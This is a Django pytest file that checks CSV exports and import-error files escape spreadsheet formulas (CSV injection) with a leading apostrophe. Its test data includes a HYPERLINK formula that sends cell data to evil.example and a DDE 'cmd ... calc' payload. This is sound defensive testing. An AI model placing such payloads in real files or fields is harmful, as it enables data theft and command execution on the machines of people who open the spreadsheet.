"""CSV exports and error files never hand a spreadsheet a formula (issue 10): a cell that
starts with =, +, -, @ is written with a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from core.services import errors_csv

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def _rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_merchant_export_escapes_formulas(client, supervisor, merchant_a):
    merchant_a.name = FORMULA
    merchant_a.address = "+86 cmd|' /C calc'!A0"
    merchant_a.save()
    client.force_login(supervisor)
    rows = _rows(client.get(reverse("export", args=["merchants"])))
    row = next(r for r in rows if r[0] == merchant_a.merchant_id)
    assert row[1] == "'" + FORMULA
    assert row[5].startswith("'+86")


def test_import_error_file_escapes_formulas():
    text = errors_csv(
        [{"row": 2, "column": "name", "value": "@SUM(1+1)*cmd", "zh": "-错误", "en": "-1.5"}]
    )
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[2] == "'@SUM(1+1)*cmd" and row[3] == "'-错误"
    assert row[4] == "-1.5"  # a plain number is not a formula
